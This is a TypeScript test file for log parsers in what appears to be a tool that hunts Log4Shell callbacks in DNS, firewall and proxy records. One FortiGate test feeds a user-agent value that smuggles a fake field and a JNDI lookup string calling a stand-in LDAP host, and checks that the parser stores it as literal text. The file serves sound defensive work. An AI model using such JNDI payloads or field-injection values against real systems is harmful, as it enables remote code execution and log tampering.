import { expect, test } from 'vitest'
import { huntedAround } from '../../../test/kit/hunting.ts'
import { instant } from '../../core/index.ts'
import { FormatChooser } from './format-chooser.ts'
import { logFormats } from './index.ts'
import { RecordText } from './record-text.ts'

const context = (columns: string | undefined) => ({ around: huntedAround, columns: columns ?? null })

const witnesses = logFormats.filter(({ witnesses: marks }) => marks !== undefined)
const reads = witnesses.flatMap((format) => format.examples.reads.map((example) => ({ format, example })))

test.each(reads)('$format.id reads who went out: $example.record', ({ format, example }) => {
  const { record, columns, when, from, request, saw } = example

  const read = format.read(new RecordText(record), context(columns))

  expect(read?.saw).toEqual(saw)
  expect(read?.when).toBe(when === undefined ? null : instant(when))
  expect(read?.from).toBe(from ?? null)
  expect(read?.request).toBe(request ?? null)
})

test.each(witnesses.flatMap(({ id, examples }) => examples.refuses.map((record) => ({ id, record }))))(
  '$id refuses $record',
  ({ id, record }) => {
    const format = logFormats.find((each) => each.id === id)

    expect(format?.read(new RecordText(record), context(undefined))).toBeNull()
  },
)

test.each(reads.filter(({ example }) => example.saw !== undefined))(
  'a record of $format.id that says who went out has one of its marks: $example.record',
  ({ format, example }) => {
    const log = `${example.columns ?? ''}\n${example.record}`

    expect(format.witnesses?.some((mark) => log.includes(mark))).toBe(true)
  },
)

test('formats that say who went out name their marks', () => {
  const saying = logFormats.filter(({ examples }) => examples.reads.some(({ saw }) => saw !== undefined))

  expect(saying.filter(({ witnesses: marks }) => marks === undefined)).toEqual([])
})

test.each([
  [
    'bind-queries',
    'Dec 10 12:43:13 ns1 named[812]: client @0x7f 10.0.0.5#5 (a.example): query: a.example IN A + (10.0.0.53)',
  ],
  ['dnsmasq', 'Dec 10 12:43:13 gw dnsmasq[812]: query[A] a.example from 10.0.0.5'],
  ['unbound', 'Dec 10 12:43:13 gw unbound: [812:0] info: 10.0.0.5 a.example. A IN'],
  [
    'netfilter',
    'Dec 10 12:43:13 fw kernel: [1.0] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=203.0.113.66 LEN=60 PROTO=TCP SPT=4 DPT=1389 SYN',
  ],
  [
    'filterlog',
    'Dec 10 12:43:13 fw filterlog[812]: 5,,,1000000103,em0,match,pass,out,4,0x0,,64,4711,0,DF,6,tcp,60,10.0.0.5,203.0.113.66,40000,1389,0,S,1,,64240,,mss',
  ],
])('what syslog puts before a record of %s gives its time', (id, record) => {
  const { format, record: read } = new FormatChooser().read(record, context(undefined))

  expect(format.split(' > ').at(-1)).toBe(id)
  expect(read.when).toBe(Date.UTC(2021, 11, 10, 12, 43, 13))
  expect(read.saw).toBeDefined()
})

test('an address of the kernel, with all its zeros, is written as others write it', () => {
  const record =
    'kernel: IN= OUT=eth0 SRC=2001:0db8:0000:0000:0000:0000:0000:0005 DST=2001:0db8:0000:0000:0001:0000:0000:0066 LEN=80 PROTO=TCP SPT=4 DPT=1389'

  const { record: read } = new FormatChooser().read(record, context(undefined))

  expect(read.saw).toMatchObject({ to: '2001:db8::1:0:0:66', by: '2001:db8::5' })
})

test('what Kubernetes puts before a record of CoreDNS gives its time', () => {
  const record =
    '2021-12-10T12:43:13.5Z stdout F [INFO] 10.0.0.5:40000 - 4711 "A IN x.evil.example. udp 41 false 512" NOERROR qr,rd,ra 80 0.001s'

  const { format, record: read } = new FormatChooser().read(record, context(undefined))

  expect(format).toBe('kubernetes > coredns')
  expect(read).toMatchObject({ when: instant('2021-12-10T12:43:13.5Z'), saw: { name: 'x.evil.example' } })
})

test('what an attacker writes into a value of FortiGate is read as it is, and adds no values', () => {
  const record =
    'date=2021-12-10 time=12:43:12 logid="1" srcip=203.0.113.9 dstip=10.0.0.4 dstport=80 proto=6 hostname="a.example" url="/" agent="x\\" dstip=192.0.2.1 ${jndi:ldap://x.example/a}"'

  const { record: read } = new FormatChooser().read(record, context(undefined))

  expect(read.userAgent).toBe('x\\" dstip=192.0.2.1 ${jndi:ldap://x.example/a}')
  expect(read.saw).toMatchObject({ to: '10.0.0.4', name: 'a.example' })
})

test('a URL of Palo Alto may have commas and quotes in it', () => {
  const before =
    '1,2021/12/10 12:43:13,0128,THREAT,url,2305,2021/12/10 12:43:12,10.0.0.5,203.0.113.66,0.0.0.0,0.0.0.0,out,,,web-browsing,vsys1,trust,untrust,a,b,fwd,2021/12/10 12:43:13,4711,1,40000,80,0,0,0x0,tcp,alert'

  const { record: read } = new FormatChooser().read(`${before},"a.example/x,""y"",z",(9999),any`, context(undefined))

  expect(read.request).toBe('a.example/x,"y",z')
  expect(read.saw).toMatchObject({ name: 'a.example', port: 80 })
})
